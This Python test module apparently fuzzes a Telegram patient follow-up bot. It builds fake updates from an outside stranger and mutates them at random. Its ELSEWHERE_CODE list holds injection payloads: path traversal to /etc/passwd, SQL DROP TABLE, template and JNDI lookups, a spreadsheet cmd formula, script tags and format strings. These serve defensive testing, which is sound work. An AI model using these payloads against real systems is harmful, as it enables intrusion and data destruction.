"""Real raw updates, broken in every way that comes to mind, from a seeded generator."""

import copy
import json
import random
from collections.abc import Callable
from typing import Any

from followupbot.channels.telegram.updates import ATTACHMENTS
from followupbot.domain.ids import AlertId, CheckInId, QuestionId, StaffId
from followupbot.domain.presses import (
    AlertPress,
    AnswerPress,
    BackPress,
    CanaryPress,
    ChangePress,
    CommandPress,
    DetailsPress,
    EndExpectedPress,
    ExpectPress,
    HandOverPress,
    Press,
    ResolvePress,
    SaidPress,
    StartPress,
    TakePress,
)
from tests.attacks.site import Site, pressed, wrote

STRANGER = 900_001

ELSEWHERE_CODE = (
    "../../../../etc/passwd",
    "..\\..\\data\\master.key",
    "'; DROP TABLE facts; --",
    "1 OR 1=1",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${jndi:ldap://example.org/a}",
    '=HYPERLINK("http://example.org";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><b>",
    "%s%s%n{0}{patient}",
    "\u202egnp.exe\u0000\u200b",
)
"""A path, SQL, a template, a look-up, a formula, HTML, a format, letters that turn round."""

ODD: tuple[Any, ...] = (
    None, True, False, -1, 0, 1, 2**31, 2**53, 2**63, -(2**63), 2**70, 1.5, 1e308, float("inf"), "", " ", "0",
    "\ud800", "x" * 70_000, "\U0001f9d1" * 5_000, "/" * 300, [], [[]], {}, {"id": 1}, [1, {"id": None}],
    *ELSEWHERE_CODE,
)  # fmt: skip


def corpus(site: Site) -> list[dict[str, Any]]:
    """Real updates: everything that somebody outside can make Telegram send, about somebody else's record."""
    his, alert, check_in = site.his, AlertId(1), CheckInId(1)
    presses: list[Press] = [
        site.red_flag(his),
        AnswerPress(his, check_in, QuestionId("gate_bladder_bowel"), "none"),
        StartPress(his, check_in),
        BackPress(his, check_in, QuestionId("gate_bladder_bowel")),
        ChangePress(his, check_in, QuestionId("gate_bladder_bowel")),
        SaidPress(his, check_in),
        CommandPress(his, "stop", ""),
        CommandPress(his, "delete", ""),
        TakePress(his, alert),
        ResolvePress(his, alert, "called"),
        DetailsPress(his, alert),
        HandOverPress(his, alert),
        HandOverPress(his, alert, StaffId("s1")),
        ExpectPress(his, alert),
        EndExpectedPress(his),
        AlertPress(his, alert),
        CanaryPress(1),
    ]
    words = [f"/start {token}" for token in site.links.values()]
    words += [
        "/start",
        "/stop",
        "/delete",
        f"/patient {his}",
        f"/patient {his} died",
        "/rota 2026-W11 Dr Ito",
        "/mydata",
    ]
    words += ["/mydata", "/away 2026-03-01 2026-04-01", "/bind clinician", "/urgent", "stop", *ELSEWHERE_CODE]
    found = [pressed(STRANGER, press) for press in presses] + [wrote(STRANGER, text) for text in words]
    for kind in ATTACHMENTS:
        update = wrote(STRANGER, "")
        del update["message"]["text"]
        update["message"][kind] = {"file_id": "AgAC", "file_unique_id": "AQ"}
        found.append(update)
    group = {"id": -100_900, "title": "g", "type": "supergroup"}
    for update in [*map(copy.deepcopy, found)]:
        (body,) = update.values()
        body.get("message", body)["chat"] = group
        found.append(update)
    member = {"user": {"id": 1, "is_bot": True}, "status": "kicked"}
    for status in ("kicked", "member", "left", "restricted"):
        chat = {"id": STRANGER, "type": "private"}
        found.append({"my_chat_member": {"chat": chat, "date": 1, "new_chat_member": member | {"status": status}}})
    found.append({"message": {"message_id": 1, "chat": {"id": -5, "type": "group"}, "migrate_to_chat_id": -100_900}})
    return found


def addressed(real: list[dict[str, Any]], address: int) -> list[dict[str, Any]]:
    """The same, from that person."""
    text = json.dumps(real).replace(str(STRANGER), str(address))
    found: list[dict[str, Any]] = json.loads(text)
    return found


def broken(rng: random.Random, real: list[dict[str, Any]]) -> dict[str, Any]:
    """One of them, with up to four things wrong with it; now and then none."""
    update = copy.deepcopy(rng.choice(real))
    for _ in range(rng.choice((0, 1, 1, 1, 2, 2, 3, 4))):
        rng.choice(WAYS)(rng, update, real)
    return update


def _place(rng: random.Random, value: Any) -> tuple[Any, Any] | None:
    """Somewhere inside: a container and one of its keys."""
    places: list[tuple[Any, Any]] = []
    stack = [value]
    while stack:
        inside = stack.pop()
        keys = list(inside) if isinstance(inside, dict) else range(len(inside)) if isinstance(inside, list) else ()
        for key in keys:
            places.append((inside, key))
            stack.append(inside[key])
    return rng.choice(places) if places else None


def _replace(rng: random.Random, update: dict[str, Any], _: list[dict[str, Any]]) -> None:
    if found := _place(rng, update):
        found[0][found[1]] = copy.deepcopy(rng.choice(ODD))


def _drop(rng: random.Random, update: dict[str, Any], _: list[dict[str, Any]]) -> None:
    if found := _place(rng, update):
        del found[0][found[1]]


def _scratch(rng: random.Random, update: dict[str, Any], _: list[dict[str, Any]]) -> None:
    """One character of a text is another, is gone, or is there twice."""
    found = _place(rng, update)
    if found is None or not isinstance(text := found[0][found[1]], str) or not text:
        return
    at = rng.randrange(len(text))
    found[0][found[1]] = text[:at] + rng.choice(("", text[at] * 2, chr(rng.randrange(0x20, 0x2FF)))) + text[at + 1 :]


def _count_on(rng: random.Random, update: dict[str, Any], _: list[dict[str, Any]]) -> None:
    found = _place(rng, update)
    if found is not None and isinstance(number := found[0][found[1]], int):
        found[0][found[1]] = number + rng.choice((-1, 1, 10, -(10**6)))


def _graft(rng: random.Random, update: dict[str, Any], real: list[dict[str, Any]]) -> None:
    """A part of another update stands in it, or beside what it has."""
    found, other = _place(rng, update), _place(rng, rng.choice(real))
    if found is not None and other is not None:
        found[0][found[1]] = copy.deepcopy(other[0][other[1]])
        if rng.random() < 0.5:
            update |= copy.deepcopy(rng.choice(real))


def _nest(rng: random.Random, update: dict[str, Any], _: list[dict[str, Any]]) -> None:
    if found := _place(rng, update):
        found[0][found[1]] = [{"id": found[0][found[1]]}]


WAYS: tuple[Callable[[random.Random, dict[str, Any], list[dict[str, Any]]], None], ...] = (
    _replace, _drop, _scratch, _count_on, _graft, _nest,
)  # fmt: skip
